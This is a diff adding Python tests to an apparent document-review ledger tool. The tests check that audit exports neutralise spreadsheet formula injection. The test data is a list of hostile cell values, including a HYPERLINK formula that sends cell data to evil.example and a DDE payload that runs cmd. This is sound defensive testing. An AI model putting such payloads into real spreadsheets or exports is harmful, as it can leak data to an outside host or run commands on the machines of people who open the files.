@@ -213,3 +213,70 @@ def test_file_format_without_output_writes_default_name(
     ok(r)
     expected = tmp_path / "保密审查台账-2026-01-01-2026-12-31.csv"
     assert expected.exists() and expected.name in r.stdout
+
+
+HOSTILE = [
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "  =1+1",
+    "\t=1+1",
+    "＝1+1",
+]
+
+
+def test_spreadsheet_cells_never_become_formulas(
+    office: Path, runner: CliRunner, tmp_path: Path
+) -> None:
+    """Titles (and a reviewer's reason) a spreadsheet would run are written as inert text."""
+    from secreview.report.render_tabular import spreadsheet_safe
+    from tests.helpers.ledger import write_doc
+
+    for i, title in enumerate(HOSTILE):
+        doc = write_doc(tmp_path, f"h{i}.txt", "pass", salt=str(i))
+        cli_json(runner, office, "张三", "submit", str(doc), "--title", title, "--dept", "办公室")
+    rej = write_doc(tmp_path, "r.html", "review")
+    sid = cli_json(runner, office, "张三", "submit", str(rej), "--title", "普通标题", "--dept", "办公室")["id"]
+    ok(cli(runner, office, "审查员甲", "review", sid, "--reject", "--comment", "=1+2 请修改"))
+    xlsx, csv_out = tmp_path / "a.xlsx", tmp_path / "a.csv"
+    ok(cli(runner, office, AUDITOR, "audit", "--format", "xlsx", "-o", str(xlsx)))
+    ok(cli(runner, office, AUDITOR, "audit", "--format", "csv", "-o", str(csv_out)))
+    wb = openpyxl.load_workbook(xlsx)
+    cells = [c for sh in wb.worksheets for row in sh.iter_rows() for c in row if c.value]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    titles = [wb["台账"].cell(row=r, column=2).value for r in range(4, 4 + len(HOSTILE))]
+    assert titles == ["'" + t.strip() for t in HOSTILE]  # submit trims the title
+    with csv_out.open(encoding="utf-8-sig", newline="") as fh:
+        rows = list(csv.reader(fh))
+    assert [r[1] for r in rows[1 : 1 + len(HOSTILE)]] == ["'" + t.strip() for t in HOSTILE]
+    for r in rows:
+        for cell in r:
+            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    # The raw XML holds no <f> element at all.
+    import zipfile
+
+    with zipfile.ZipFile(xlsx) as z:
+        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
+    assert not any("<f>" in s or "<f " in s for s in sheets)
+    assert spreadsheet_safe("普通标题") == "普通标题" and spreadsheet_safe("1-2") == "1-2"
+    for lead in ("  =1", "\t=1", "\r=1", "\u3000@x", "\t", "-"):
+        assert spreadsheet_safe(lead) == "'" + lead
+
+
+def test_audit_prints_the_last_checkpoint(office: Path, runner: CliRunner) -> None:
+    cp = cli_json(runner, office, AUDITOR, "ledger", "checkpoint")
+    data = cli_json(runner, office, AUDITOR, "audit")
+    assert data["ledger"]["checkpoint"].startswith(f"第 {cp['seq']} 条")
+    assert cp["head"][:16] in data["ledger"]["checkpoint"]
+    text = cli(runner, office, AUDITOR, "audit")
+    ok(text)
+    assert "最近检查点" in text.stdout and cp["head"][:16] in text.stdout.replace("\n", "")
+    # The printed head (a 16-digit prefix) is what an inspector types back in.
+    prefix = data["ledger"]["head"][:16]
+    found = cli_json(runner, office, "检查人员", "ledger", "verify", "--expect-head", prefix)
+    assert found["expect_head_seq"] == data["ledger"]["events"]
+    short = cli(runner, office, "检查人员", "ledger", "verify", "--expect-head", prefix[:11])
+    assert short.exit_code == 2 and "12" in short.stderr
+    wrong = cli(runner, office, "检查人员", "ledger", "verify", "--expect-head", "0" * 12)
+    assert wrong.exit_code == 1 and "不在台账中" in wrong.stderr
